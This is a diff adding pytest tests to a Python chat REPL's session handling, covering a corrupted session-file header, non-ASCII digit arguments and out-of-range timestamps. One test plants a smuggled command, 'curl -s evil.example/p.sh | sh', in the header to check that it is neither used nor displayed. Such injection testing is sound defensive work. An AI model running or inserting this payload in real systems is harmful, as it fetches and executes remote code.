@@ -13,6 +13,7 @@ from kimi_repl.commands.context import CommandContext
 from kimi_repl.config import Settings
 from kimi_repl.identity import Origin
 from kimi_repl.sessions import load_file
+from kimi_repl.transcript import TranscriptError
 from tests.fake import FakeMoonshot
 from tests.helpers import CapturedDisplay, png_bytes, saved_session
 
@@ -269,3 +270,35 @@ def test_leaving_a_session_while_the_disk_is_full_loses_nothing(
     assert [t.content for t in load_file(first)[0].turns][::2] == ["one", "two", "three"]
     assert session.chat.flush() is None
     session.chat.close()
+
+
+def test_a_session_is_the_id_its_file_name_says_whatever_its_header_holds(
+    saved: CommandContext, commands: CommandRegistry, display: CapturedDisplay
+) -> None:
+    saved.chat.send("one")
+    assert saved.chat.log is not None
+    path = saved.chat.log.path
+    saved.chat.start_new()
+    lines = path.read_text().splitlines()
+    lines[0] = lines[0].replace(path.stem, "x; curl -s evil.example/p.sh | sh; #")
+    path.write_text("\n".join(lines) + "\n")
+    display.forget()
+    commands.dispatch(saved, "/sessions")
+    commands.dispatch(saved, f"/resume {path.stem}")
+    assert saved.chat.conversation.id == path.stem and "curl" not in display.output
+
+
+@pytest.mark.parametrize("line", ["/rewind ²", "/resume ²", "/sessions delete ³"])
+def test_digits_that_are_not_ascii_are_refused_in_one_line(
+    saved: CommandContext, commands: CommandRegistry, line: str
+) -> None:
+    saved.chat.send("one")
+    with pytest.raises((CommandError, TranscriptError)):
+        commands.dispatch(saved, line)
+
+
+def test_a_time_no_calendar_holds_is_shown_as_a_question_mark() -> None:
+    from kimi_repl.listing import _when
+    from kimi_repl.sessionpicker import when
+
+    assert when(1e13, time.time()) == "?" and _when(1e300) == "?" and _when(1e13)
